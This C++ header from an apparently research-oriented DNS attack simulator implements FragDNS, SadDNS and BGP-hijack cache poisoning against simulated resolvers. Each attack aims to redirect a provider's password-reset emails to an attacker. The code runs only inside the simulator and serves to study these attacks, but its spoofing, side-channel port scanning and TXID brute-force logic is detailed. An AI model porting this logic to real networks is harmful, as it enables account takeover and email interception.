#pragma once

#include <deque>
#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "dnslab/analysis.hpp"
#include "dnslab/frag_craft.hpp"
#include "dnslab/icmp.hpp"
#include "dnslab/nameserver.hpp"
#include "dnslab/provider.hpp"
#include "dnslab/simnet.hpp"

namespace dnslab {

// Access-audited attacker facade. Attack agents receive only this object:
// they can send (spoofed) packets from attacker hosts, read packets and reset
// emails delivered to attacker hosts, advance simulated time, and use the
// capabilities the scenario granted (triggering lookups, muting nameservers,
// BGP announcements, the provider's public password-reset form). Resolver,
// nameserver and provider internals are unreachable from here.
class AttackerView {
public:
    AttackerView(Sim& sim, std::vector<HostId> hosts)
        : sim_(&sim), hosts_(std::move(hosts)), rng_(sim.split_rng("attacker")) {
        for (HostId h : hosts_)
            for (auto ip : sim.host_ips(h)) ips_.push_back(ip);
        for (HostId h : hosts_)
            sim.set_handler(h, [this](const Ipv4Packet& p) { inbox.push_back(p); });
    }

    double now() const { return sim_->now(); }
    void run_until(double t) { sim_->run_until(t); }
    void run_for(double dt) { sim_->run_until(sim_->now() + dt); }

    Rng& rng() { return rng_; }
    const std::vector<Ipv4Addr>& addresses() const { return ips_; }
    Ipv4Addr address() const { return ips_.front(); }
    HostId host() const { return hosts_.front(); }

    bool owns(Ipv4Addr ip) const {
        for (auto a : ips_)
            if (a == ip) return true;
        return false;
    }

    // Spoofed sources are the default mode of operation. `bypass_own_hijacks`
    // models the attacker's router forwarding along the genuine route while
    // its own announcement is in effect.
    SendStatus send(Ipv4Packet packet, bool bypass_own_hijacks = false) {
        ++packets_sent_;
        return sim_->send(hosts_.front(), std::move(packet), bypass_own_hijacks);
    }

    uint64_t packets_sent() const { return packets_sent_; }

    // Packets and reset emails delivered to attacker-owned addresses.
    std::deque<Ipv4Packet> inbox;
    std::vector<ResetEmail> mailbox;

    // --- capabilities granted by the scenario --------------------------------

    // Causes one victim-side lookup: a password-recovery request at the
    // provider, or a client query at the victim resolver. The callback
    // reports the answer the client-side flow obtained, when the scenario
    // surfaces one (a resolver client sees its answer; a recovery trigger
    // may only be observable through the reset email).
    std::function<void(std::function<void(const ResolveResult&)>)> trigger;
    // Mute switch over the victim domain's nameservers.
    std::function<void(bool)> mute;
    // Hijack announcements from the attacker's BGP speaker.
    std::function<bool(const HijackAnnouncement&)> announce;
    std::function<void(const HijackAnnouncement&)> withdraw;
    // The provider's public reset form.
    std::function<bool(const std::string& token, const std::string& secret)> reset;

    uint64_t triggers_used = 0;

private:
    Sim* sim_;
    std::vector<HostId> hosts_;
    std::vector<Ipv4Addr> ips_;
    Rng rng_;
    uint64_t packets_sent_ = 0;
};

struct AttackPlan {
    enum class Method { FragDns, SadDns, HijackDns };
    enum class Target { Provider, CustomerResolver };
    Method method = Method::FragDns;
    Target target = Target::CustomerResolver;

    // Public facts about the victim.
    std::string victim_domain;
    std::string mail_host;  // name whose address record gets poisoned
    std::vector<Ipv4Addr> victim_ns;
    Ipv4Addr resolver_ip;
    Ipv4Addr poison_ip;  // attacker-controlled address to inject

    unsigned repetitions = 1;

    // FragDns
    unsigned ipid_guesses = 64;  // clamped so the planted total stays <= 64
    uint16_t coerce_mtu = 296;
    double estimated_delay = 0.2;        // trigger -> victim response, seconds
    unsigned expected_intermediate = 0;  // victim responses before the target one
    double reassembly_window = 15.0;

    // SadDns
    double window_estimate = 50.0;  // per-iteration scan budget, seconds
    double sweep_pps = 50000.0;
    uint16_t port_lo = 1024;
    uint16_t port_hi = 65535;
    // Provider-side poisoning injects an MX pointing at a name the attacker
    // serves itself; the provider's follow-up address lookup then resolves to
    // the attacker legitimately.
    std::string attacker_mail_host;

    // HijackDns
    HijackAnnouncement::Kind hijack_kind = HijackAnnouncement::Kind::SubPrefix;
    Prefix hijack_prefix;
    double hijack_lead = 0.05;
    double hijack_duration = 3.0;
    std::optional<int> hijack_preference;
};

struct AttackOutcome {
    bool success = false;
    std::string failure;  // NoFragmentation, WindowMissed, NoRateLimit, WindowClosed, NotAccepted
    uint64_t queries_triggered = 0;
    uint64_t packets_sent = 0;
    double wall_time = 0;
    std::string poisoned_record;
    bool email_intercepted = false;
    uint64_t iterations = 0;
};

namespace attack_detail {

inline DnsMessage poison_answer(const AttackPlan& plan, const Question& q) {
    DnsMessage m;
    m.qr = true;
    m.aa = true;
    m.question.push_back(q);
    if (q.qtype == RrType::MX) {
        const std::string& target =
            plan.attacker_mail_host.empty() ? plan.mail_host : plan.attacker_mail_host;
        m.answers.push_back(ResourceRecord::mx(q.qname, 10, target));
    } else {
        m.answers.push_back(ResourceRecord::a(q.qname, plan.poison_ip));
    }
    return m;
}

inline bool answer_is_poisoned(const ResolveResult& r, const AttackPlan& plan) {
    if (!r.ok) return false;
    for (const auto& rr : r.records)
        if (rr.rrtype == RrType::A && std::get<Ipv4Addr>(rr.rdata) == plan.poison_ip)
            return true;
    return false;
}

inline bool email_intercepted(const AttackerView& view, const AttackPlan& plan) {
    for (const auto& mail : view.mailbox)
        if (mail.delivered_to_ip == plan.poison_ip) return true;
    return false;
}

} // namespace attack_detail

// --- FragDNS -----------------------------------------------------------------

// Defragmentation-cache injection. Phases: coerce fragmentation with ICMP PTB
// errors, learn the response layout and IPID behaviour from the attacker's
// own queries, plant checksum-adjusted second fragments keyed to predicted
// IPIDs, then trigger the victim lookup so the genuine first fragment
// completes a spoofed pair inside the reassembly window.
inline AttackOutcome run_fragdns(AttackerView& view, const AttackPlan& plan) {
    AttackOutcome out;
    double start = view.now();

    struct NsObservation {
        Ipv4Addr ns;
        Ipv4Packet first, second;
        uint16_t last_ipid = 0;
        double last_ipid_time = -1;
        double rate = 0;
        bool fragmenting = false;
        size_t response_fragments = 0;
    };
    std::vector<NsObservation> observed;

    auto my_query = [&](Ipv4Addr ns) {
        DnsMessage q = make_query(view.rng().uniform_u16(), plan.mail_host, RrType::A, 4096);
        view.send(make_udp_packet(view.address(), ns,
                                  static_cast<uint16_t>(20000 + view.rng().uniform(20000)), 53,
                                  q.encode(), view.rng().uniform_u16()));
    };

    // Observe the fragmented response from one nameserver; updates the IPID
    // sample and keeps the fragment layout for crafting. Everything after the
    // first fragment is merged into one tail: the spoofed "second fragment"
    // replaces the entire remainder of the datagram, which both sidesteps the
    // per-fragment MTU and ends reassembly at the spoof (MF clear).
    auto probe_ns = [&](NsObservation& obs) {
        view.inbox.clear();
        my_query(obs.ns);
        view.run_for(0.3);
        std::vector<Ipv4Packet> frags;
        for (const auto& p : view.inbox)
            if (p.header.protocol == kProtoUdp && p.header.src == obs.ns) frags.push_back(p);
        view.inbox.clear();
        if (frags.size() < 2) return false;
        std::sort(frags.begin(), frags.end(), [](const auto& a, const auto& b) {
            return a.header.fragment_offset < b.header.fragment_offset;
        });
        size_t expect = size_t(frags[1].header.fragment_offset) * 8;
        Ipv4Packet tail = frags[1];
        tail.payload.clear();
        for (size_t i = 1; i < frags.size(); ++i) {
            if (size_t(frags[i].header.fragment_offset) * 8 != expect) return false;
            tail.payload.insert(tail.payload.end(), frags[i].payload.begin(),
                                frags[i].payload.end());
            expect += frags[i].payload.size();
        }
        tail.header.mf_flag = false;
        tail.header.total_length = static_cast<uint16_t>(tail.total_length());

        double t = view.now();
        uint16_t ipid = frags[0].header.ipid;
        if (obs.last_ipid_time >= 0 && t > obs.last_ipid_time) {
            uint16_t diff = static_cast<uint16_t>(ipid - obs.last_ipid);
            obs.rate = std::max(0.0, double(diff) - 1.0) / (t - obs.last_ipid_time);
        }
        obs.last_ipid = ipid;
        obs.last_ipid_time = t;
        obs.first = frags[0];
        obs.second = tail;
        obs.fragmenting = true;
        obs.response_fragments = frags.size();
        return true;
    };

    // Coerce a small path MTU toward the resolver and toward this host.
    for (Ipv4Addr ns : plan.victim_ns) {
        Ipv4Packet to_resolver = make_udp_packet(ns, plan.resolver_ip, 53, 33000, Bytes(8, 0), 1);
        view.send(make_icmp_packet(view.address(), ns, make_ptb(to_resolver, plan.coerce_mtu)));
        Ipv4Packet to_me = make_udp_packet(ns, view.address(), 53, 33000, Bytes(8, 0), 1);
        view.send(make_icmp_packet(view.address(), ns, make_ptb(to_me, plan.coerce_mtu)));
    }
    view.run_for(0.2);

    for (Ipv4Addr ns : plan.victim_ns) {
        NsObservation obs;
        obs.ns = ns;
        probe_ns(obs);
        if (obs.fragmenting) {
            probe_ns(obs);  // second sample pins the increment rate
            observed.push_back(obs);
        }
    }

    if (observed.empty()) {
        out.failure = "NoFragmentation";
        out.packets_sent = view.packets_sent();
        out.wall_time = view.now() - start;
        return out;
    }

    // Intermediate victim responses (the MX lookup ahead of the address
    // lookup) pass through the same defragmentation cache; planting right up
    // to its capacity would let them evict the waiting spoofs. Leave room for
    // their fragments, which the attacker knows from its own probes.
    size_t frags_per_response = 0;
    for (const auto& obs : observed)
        frags_per_response = std::max(frags_per_response, obs.response_fragments);
    size_t headroom = plan.expected_intermediate * frags_per_response;
    size_t budget = headroom < 63 ? 64 - headroom : 1;
    unsigned per_ns = std::max<unsigned>(
        1, std::min<unsigned>(plan.ipid_guesses,
                              static_cast<unsigned>(budget / observed.size())));

    for (unsigned rep = 0; rep < plan.repetitions && !out.success; ++rep) {
        ++out.iterations;
        if (rep > 0)
            for (auto& obs : observed) probe_ns(obs);  // refresh the IPID sample

        double t_plant = view.now();
        for (auto& obs : observed) {
            std::vector<ResourceRecord> malicious{
                ResourceRecord::a(plan.mail_host, plan.poison_ip)};
            Ipv4Packet spoof;
            try {
                spoof = craft_spoofed_second_fragment(obs.first, obs.second, malicious,
                                                      obs.last_ipid);
            } catch (const Unadjustable&) {
                continue;
            }
            spoof.header.dst = plan.resolver_ip;

            double drift_t = (view.now() - obs.last_ipid_time) + plan.estimated_delay;
            uint64_t skip = optimal_window_start(obs.rate * drift_t, per_ns);
            uint16_t base = static_cast<uint16_t>(obs.last_ipid + 1 +
                                                  plan.expected_intermediate + skip);
            for (unsigned g = 0; g < per_ns; ++g)
                view.send(with_ipid(spoof, static_cast<uint16_t>(base + g)));
        }

        std::optional<ResolveResult> answer;
        if (view.trigger) {
            view.trigger([&](const ResolveResult& r) { answer = r; });
            ++view.triggers_used;
            ++out.queries_triggered;
        }

        double deadline = t_plant + plan.reassembly_window + plan.estimated_delay + 5.0;
        while (view.now() < deadline) {
            view.run_for(0.1);
            if (answer || attack_detail::email_intercepted(view, plan)) break;
        }

        if ((answer && attack_detail::answer_is_poisoned(*answer, plan)) ||
            attack_detail::email_intercepted(view, plan)) {
            out.success = true;
            out.poisoned_record =
                canonical_name(plan.mail_host) + " A " + plan.poison_ip.str();
        } else if (view.now() - t_plant > plan.reassembly_window) {
            out.failure = "WindowMissed";
        } else {
            out.failure = "IpidMissed";
        }
        view.run_for(0.5);  // pacing between repetitions
    }

    out.email_intercepted = attack_detail::email_intercepted(view, plan);
    out.packets_sent = view.packets_sent();
    out.wall_time = view.now() - start;
    return out;
}

// One Monte-Carlo micro-trial of the IPID guess against the real reassembly
// machinery: plant `guesses` spoofed fragments with consecutive IPIDs, let
// background traffic drift the counter for `response_delay` seconds, draw the
// genuine response IPID from the strategy, and see whether the genuine first
// fragment completes a spoofed pair. Used by the hit-rate studies.
inline bool fragdns_window_trial(IpidStrategy& strategy, Rng& rng, const Ipv4Packet& first,
                                 const Ipv4Packet& spoofed_second, unsigned guesses,
                                 uint16_t window_start, double response_delay = 0.0) {
    ReassemblyCache cache(64, 15.0);
    for (unsigned g = 0; g < guesses; ++g)
        cache.insert(with_ipid(spoofed_second, static_cast<uint16_t>(window_start + g)), 0.0);
    uint16_t genuine = strategy.next(first.header.dst, response_delay, rng);
    auto res = cache.insert(with_ipid(first, genuine), response_delay);
    return res.packet.has_value();
}

// --- SadDNS ------------------------------------------------------------------

struct RateLimitCheck {
    bool icmp_on_single_probe = false;
    bool icmp_after_burst = true;
    // The side channel needs ICMP errors that dry up under a 50-burst.
    bool limited() const { return icmp_on_single_probe && !icmp_after_burst; }
};

namespace attack_detail {

inline size_t count_icmp(const std::deque<Ipv4Packet>& inbox, size_t from_index) {
    size_t n = 0;
    for (size_t i = from_index; i < inbox.size(); ++i)
        if (inbox[i].header.protocol == kProtoIcmp) ++n;
    return n;
}

// Exactly 50 spoofed probes (candidates padded with known-closed low ports)
// followed by one verification probe from the attacker's own address.
// Returns true when the verification ICMP arrives, i.e. one of the candidate
// ports is open and absorbed a probe without costing a token.
inline bool saddns_probe_round(AttackerView& view, const AttackPlan& plan,
                               const std::vector<uint16_t>& ports) {
    size_t mark = view.inbox.size();
    size_t sent = 0;
    auto spoofed_src = [&]() {
        return Ipv4Addr(0xcb007100u + uint32_t(view.rng().uniform(250)) + 1);  // 203.0.113.0/24
    };
    for (uint16_t port : ports) {
        view.send(make_udp_packet(spoofed_src(), plan.resolver_ip,
                                  static_cast<uint16_t>(40000 + sent), port, Bytes{0}, 1));
        ++sent;
    }
    for (; sent < 50; ++sent)
        view.send(make_udp_packet(spoofed_src(), plan.resolver_ip,
                                  static_cast<uint16_t>(40000 + sent),
                                  static_cast<uint16_t>(1 + sent), Bytes{0}, 1));
    view.run_for(0.05);
    view.send(make_udp_packet(view.address(), plan.resolver_ip, 40999, 13, Bytes{0}, 1));
    view.run_for(0.1);
    return count_icmp(view.inbox, mark) > 0;
}

} // namespace attack_detail

inline RateLimitCheck saddns_verify_rate_limit(AttackerView& view, const AttackPlan& plan) {
    RateLimitCheck check;
    size_t mark = view.inbox.size();
    view.send(make_udp_packet(view.address(), plan.resolver_ip, 40998, 7, Bytes{0}, 1));
    view.run_for(0.2);
    check.icmp_on_single_probe = attack_detail::count_icmp(view.inbox, mark) > 0;

    view.run_for(1.2);  // let the limiter window clear
    std::vector<uint16_t> closed;
    for (uint16_t p = 100; p < 150; ++p) closed.push_back(p);
    check.icmp_after_burst = attack_detail::saddns_probe_round(view, plan, closed);
    view.run_for(1.2);
    return check;
}

struct PortScanResult {
    std::optional<uint16_t> port;
    unsigned batches = 0;
};

// Port inference over the ICMP side channel: batches of 50 candidate ports
// about once per second, the verification probe deciding whether the open
// port sits inside the batch, then binary refinement with padded sub-batches.
// `window_open` reports whether the victim query is still pending.
inline PortScanResult saddns_scan_port(AttackerView& view, const AttackPlan& plan,
                                       double deadline,
                                       const std::function<bool()>& window_open) {
    PortScanResult result;
    const double kRound = 1.05;  // strictly past the limiter window
    uint32_t space = uint32_t(plan.port_hi - plan.port_lo) + 1;
    uint32_t offset = view.rng().uniform_u32(space);
    uint32_t scanned = 0;

    while (scanned < space && view.now() + kRound <= deadline && window_open()) {
        std::vector<uint16_t> batch;
        for (uint32_t i = 0; i < 50 && scanned + i < space; ++i)
            batch.push_back(
                static_cast<uint16_t>(plan.port_lo + (offset + scanned + i) % space));
        scanned += uint32_t(batch.size());
        double batch_start = view.now();
        bool hit = attack_detail::saddns_probe_round(view, plan, batch);
        ++result.batches;
        if (hit) {
            std::vector<uint16_t> candidates = batch;
            while (candidates.size() > 1 && window_open()) {
                view.run_until(view.now() + kRound);
                std::vector<uint16_t> half(candidates.begin(),
                                           candidates.begin() + long(candidates.size() / 2));
                ++result.batches;
                if (attack_detail::saddns_probe_round(view, plan, half))
                    candidates = half;
                else
                    candidates.assign(candidates.begin() + long(half.size()), candidates.end());
            }
            if (candidates.size() == 1 && window_open()) result.port = candidates[0];
            return result;
        }
        view.run_until(std::max(batch_start + kRound, view.now()));
    }
    return result;
}

// Side-channel attack end to end: verify the global rate limit, then per
// iteration mute the nameservers, trigger a victim query, infer its source
// port, and brute-force the TXID with spoofed responses before the query's
// retransmission budget runs out.
inline AttackOutcome run_saddns(AttackerView& view, const AttackPlan& plan) {
    AttackOutcome out;
    double start = view.now();

    RateLimitCheck rl = saddns_verify_rate_limit(view, plan);
    if (!rl.limited()) {
        out.failure = "NoRateLimit";
        out.packets_sent = view.packets_sent();
        out.wall_time = view.now() - start;
        return out;
    }
    if (!view.trigger || !view.mute) {
        out.failure = "WindowClosed";
        return out;
    }

    view.mute(true);
    for (unsigned iter = 0; iter < plan.repetitions && !out.success; ++iter) {
        ++out.iterations;
        std::optional<ResolveResult> answer;
        view.trigger([&](const ResolveResult& r) { answer = r; });
        ++view.triggers_used;
        ++out.queries_triggered;
        view.run_for(0.05);

        double deadline = view.now() + plan.window_estimate;
        auto window_open = [&]() { return !answer.has_value(); };
        PortScanResult scan = saddns_scan_port(view, plan, deadline, window_open);

        if (scan.port && !answer) {
            // Provider side the pending query is the MX lookup; customer side
            // it is the address lookup for the mail host.
            Question q = plan.target == AttackPlan::Target::Provider
                             ? Question{plan.victim_domain, RrType::MX, kClassIn}
                             : Question{plan.mail_host, RrType::A, kClassIn};
            DnsMessage forged = attack_detail::poison_answer(plan, q);
            Bytes wire = forged.encode();
            double gap = 1.0 / plan.sweep_pps;
            for (Ipv4Addr ns : plan.victim_ns) {
                for (uint32_t txid = 0; txid < 65536 && !answer; ++txid) {
                    set_u16(wire, 0, static_cast<uint16_t>(txid));
                    view.send(make_udp_packet(ns, plan.resolver_ip, 53, *scan.port, wire,
                                              view.rng().uniform_u16()));
                    if (txid % 512 == 511) view.run_for(gap * 512);
                }
                view.run_for(0.05);
            }
        }
        while (!answer && view.now() < deadline + 16.0) {
            view.run_for(0.5);
            if (attack_detail::email_intercepted(view, plan)) break;
        }

        if ((answer && attack_detail::answer_is_poisoned(*answer, plan)) ||
            attack_detail::email_intercepted(view, plan)) {
            out.success = true;
            out.poisoned_record =
                canonical_name(plan.mail_host) + " A " + plan.poison_ip.str();
        } else {
            out.failure = "WindowClosed";
            view.run_for(0.5);  // keeps the trigger rate at most 2 per second
        }
    }
    view.mute(false);

    out.email_intercepted = attack_detail::email_intercepted(view, plan);
    out.packets_sent = view.packets_sent();
    out.wall_time = view.now() - start;
    return out;
}

// --- HijackDNS ---------------------------------------------------------------

// Short-lived BGP announcement covering the victim path. Customer side: the
// query is diverted here, handing over (port, txid), and the forged response
// travels the genuine route. Provider side: the nameserver's responses are
// diverted here; the one answering for the mail host is rewritten, everything
// else is forwarded untouched.
inline AttackOutcome run_hijackdns(AttackerView& view, const AttackPlan& plan) {
    AttackOutcome out;
    double start = view.now();

    for (unsigned rep = 0; rep < plan.repetitions && !out.success; ++rep) {
        ++out.iterations;
        HijackAnnouncement ann;
        ann.attacker = view.host();
        ann.prefix = plan.hijack_prefix;
        ann.kind = plan.hijack_kind;
        ann.t_start = view.now();
        ann.t_end = view.now() + plan.hijack_duration;
        ann.preference = plan.hijack_preference;
        bool accepted = view.announce ? view.announce(ann) : false;
        if (!accepted) {
            out.failure = "NotAccepted";
            view.run_for(plan.hijack_duration + 0.5);
            continue;
        }

        size_t cursor = view.inbox.size();
        std::optional<ResolveResult> answer;
        view.run_for(plan.hijack_lead);
        if (view.trigger) {
            view.trigger([&](const ResolveResult& r) { answer = r; });
            ++view.triggers_used;
            ++out.queries_triggered;
        }

        bool done_forging = false;
        while (view.now() < ann.t_end && !done_forging) {
            view.run_for(0.02);
            for (; cursor < view.inbox.size(); ++cursor) {
                const Ipv4Packet& p = view.inbox[cursor];
                if (p.header.protocol != kProtoUdp || view.owns(p.header.dst)) continue;
                UdpPorts ports{};
                DnsMessage m;
                try {
                    ports = peek_udp_ports(p);
                    m = DnsMessage::decode(udp_payload_view(p));
                } catch (const ParseError&) {
                    continue;
                }
                if (m.question.empty()) continue;

                if (!m.qr) {
                    // Diverted query: answer it ourselves with the poison.
                    DnsMessage forged = attack_detail::poison_answer(plan, m.question.front());
                    forged.txid = m.txid;
                    view.withdraw(ann);
                    view.send(make_udp_packet(p.header.dst, p.header.src, 53, ports.src_port,
                                              forged.encode(), view.rng().uniform_u16()),
                              /*bypass_own_hijacks=*/true);
                    done_forging = true;
                    break;
                }

                // Diverted response: rewrite the target answer, forward the rest.
                bool rewrote = false;
                DnsMessage forged = m;
                for (auto& rr : forged.answers) {
                    if (rr.rrtype == RrType::A &&
                        canonical_name(rr.name) == canonical_name(plan.mail_host)) {
                        rr.rdata = plan.poison_ip;
                        rewrote = true;
                    }
                }
                view.send(make_udp_packet(p.header.src, p.header.dst, ports.src_port,
                                          ports.dst_port, forged.encode(),
                                          view.rng().uniform_u16()),
                          /*bypass_own_hijacks=*/true);
                if (rewrote) {
                    view.withdraw(ann);
                    done_forging = true;
                    break;
                }
            }
        }
        if (!done_forging) view.withdraw(ann);

        double deadline = view.now() + 30.0;
        while (view.now() < deadline) {
            view.run_for(0.1);
            if (answer || attack_detail::email_intercepted(view, plan)) break;
        }
        if ((answer && attack_detail::answer_is_poisoned(*answer, plan)) ||
            attack_detail::email_intercepted(view, plan)) {
            out.success = true;
            out.poisoned_record =
                canonical_name(plan.mail_host) + " A " + plan.poison_ip.str();
        } else if (out.failure.empty() || out.failure == "NoInterception") {
            out.failure = done_forging ? "ResponseRejected" : "NoInterception";
        }
        view.run_for(0.5);
    }

    out.email_intercepted = attack_detail::email_intercepted(view, plan);
    out.packets_sent = view.packets_sent();
    out.wall_time = view.now() - start;
    return out;
}

inline AttackOutcome run_attack(AttackerView& view, const AttackPlan& plan) {
    switch (plan.method) {
        case AttackPlan::Method::FragDns: return run_fragdns(view, plan);
        case AttackPlan::Method::SadDns: return run_saddns(view, plan);
        case AttackPlan::Method::HijackDns: return run_hijackdns(view, plan);
    }
    return {};
}

} // namespace dnslab
